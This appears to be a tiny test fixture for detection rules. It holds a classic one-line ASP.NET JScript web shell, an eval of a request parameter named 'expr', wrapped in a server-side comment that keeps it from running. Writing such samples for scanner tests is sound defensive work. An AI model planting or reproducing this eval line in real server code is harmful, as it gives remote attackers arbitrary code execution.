<%-- exir test sample: inert text in the shape of a web shell, written for rule tests. The server-side comment around it keeps ASP.NET from running any of it.
<%@ Page Language="Jscript"%><% // evaluates in the restricted context only
var r = eval(Request.Item["expr"]); %>
--%>
